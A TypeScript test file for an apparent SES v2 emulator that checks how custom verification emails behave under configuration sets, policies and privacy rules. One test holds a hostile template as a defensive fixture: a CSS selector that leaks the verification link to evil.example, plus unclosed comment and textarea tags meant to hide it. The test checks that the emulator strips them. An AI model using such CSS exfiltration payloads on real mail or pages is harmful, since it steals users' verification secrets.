import assert from "node:assert/strict";
import { describe, test } from "node:test";
import {
  CreateConfigurationSetCommand,
  CreateCustomVerificationEmailTemplateCommand,
  CreateEmailIdentityPolicyCommand,
  PutConfigurationSetSendingOptionsCommand,
  PutEmailIdentityMailFromAttributesCommand,
  SendCustomVerificationEmailCommand,
  UpdateCustomVerificationEmailTemplateCommand,
} from "@aws-sdk/client-sesv2";
import { minuteMs } from "#platform/clock.ts";
import { type Engine, engines } from "#test/support/engines.ts";
import { refused } from "#test/support/operation.ts";
import { identityOf, verifiedDomain } from "#test/support/verified-domain.ts";
import { welcomeTemplate } from "#test/support/welcome-template.ts";
import { World } from "#test/support/world.ts";

const { TemplateName } = welcomeTemplate;
const EmailAddress = "bob@customer.example";

const template = {
  ...welcomeTemplate,
  TemplateContent: '<p>Welcome! <a href="https://shop.example/">The shop</a></p>',
};

/** A sender whose template has a link of its own, and a set that tracks. */
async function newScene(engine: Engine): Promise<World> {
  const world = await World.start(engine);
  await verifiedDomain(world, "shop.test");
  await world.ses.send(new CreateCustomVerificationEmailTemplateCommand(template));
  await world.ses.send(
    new CreateConfigurationSetCommand({
      ConfigurationSetName: "proofs",
      VdmOptions: { DashboardOptions: { EngagementMetrics: "ENABLED" } },
    }),
  );
  return world;
}

async function ask(world: World, ConfigurationSetName?: string): Promise<string> {
  const request = { EmailAddress, TemplateName, ...(ConfigurationSetName && { ConfigurationSetName }) };
  const { MessageId = "" } = await world.ses.send(new SendCustomVerificationEmailCommand(request));
  return MessageId;
}

interface Shown {
  readonly configuration_set: string | null;
  readonly envelope_from: string;
  readonly events: readonly { readonly type: string }[];
}

async function shown(world: World, id: string): Promise<Shown> {
  await world.settle();
  return await world.plain<Shown>("GET", `/signet/v1/messages/${id}`);
}

for (const engine of engines) {
  describe(`a custom verification message under a configuration set, on ${engine}`, () => {
    test("it is told of, and the sender's links are tracked but not the one that proves", async () => {
      await using world = await newScene(engine);
      const id = await ask(world, "proofs");
      const { html } = await world.inbox(EmailAddress);
      const links = [...html.matchAll(/href="([^"]+)"/g)].map(([, link = ""]) => new URL(link).pathname);
      assert.deepEqual(
        links.map((path) => path.split("/")[1]),
        ["l", "verify"],
      );
      assert.doesNotMatch(html, /ses:/);
      const { configuration_set: set, events } = await shown(world, id);
      assert.deepEqual([set, events.map(({ type }) => type).toSorted()], ["proofs", ["Delivery", "Send"]]);
    });

    test("no style sheet of the sender's reads out the link that proves, and nothing left open hides it", async () => {
      await using world = await newScene(engine);
      const TemplateContent =
        '<style>a[href*="verify/a"]{background:url(https://evil.example/a)}</style><p>Welcome!<!-- <textarea>';
      await world.ses.send(
        new UpdateCustomVerificationEmailTemplateCommand({ ...template, TemplateContent }),
      );
      await ask(world);
      const { html } = await world.inbox(EmailAddress);
      assert.doesNotMatch(html, /evil|<style|<!--|<textarea/);
      assert.match(html, /^<p>Welcome!<\/p>\n<hr>\n<p>To confirm that .* href="http:[^"]+\/verify\/[^"]+"/);
    });

    test("a set that is paused, or not there, lets nothing out and leaves nothing behind", async () => {
      await using world = await newScene(engine);
      await refused(ask(world, "none"), "NotFoundException", 404, "Configuration set <none> does not exist.");
      await world.ses.send(
        new PutConfigurationSetSendingOptionsCommand({
          ConfigurationSetName: "proofs",
          SendingEnabled: false,
        }),
      );
      const paused = "Sending is paused for configuration set proofs";
      await refused(ask(world, "proofs"), "SendingPausedException", 400, paused);
      await assert.rejects(identityOf(world, EmailAddress), { name: "NotFoundException" });
    });

    test("a policy may deny it", async () => {
      await using world = await newScene(engine);
      const Policy = JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          { Effect: "Deny", Principal: "*", Action: "ses:SendCustomVerificationEmail", Resource: "*" },
        ],
      });
      await world.ses.send(
        new CreateEmailIdentityPolicyCommand({ EmailIdentity: "shop.test", PolicyName: "no", Policy }),
      );
      await world.leap(2_000);
      await assert.rejects(ask(world), { name: "AccessDeniedException" });
    });

    test("its content is for nobody but who gets it: neither shown, nor sent again, nor in a bounce that goes elsewhere", async () => {
      await using world = await newScene(engine);
      await world.ses.send(
        new PutEmailIdentityMailFromAttributesCommand({
          EmailIdentity: "shop.test",
          MailFromDomain: "bounce.shop.test",
        }),
      );
      world.zone("shop.test", "bounce MX 10 feedback-smtp.us-east-1.signet.localhost.");
      await world.pass(minuteMs);
      const { MailFromAttributes } = await identityOf(world, "shop.test");
      assert.equal(MailFromAttributes?.MailFromDomainStatus, "SUCCESS");
      const id = await ask(world);
      assert.match((await shown(world, id)).envelope_from, /@bounces\.us-east-1\.signet\.localhost$/);
      for (const path of ["content", "source", "rendered", "attachments/0"]) {
        const { status } = await world.call("GET", `/signet/v1/messages/${id}/${path}`);
        assert.equal(status, 403, path);
      }
      const again = { recipients: ["hello@shop.test"] };
      assert.equal((await world.call("POST", `/signet/v1/messages/${id}/resend`, again)).status, 403);
    });
  });
}
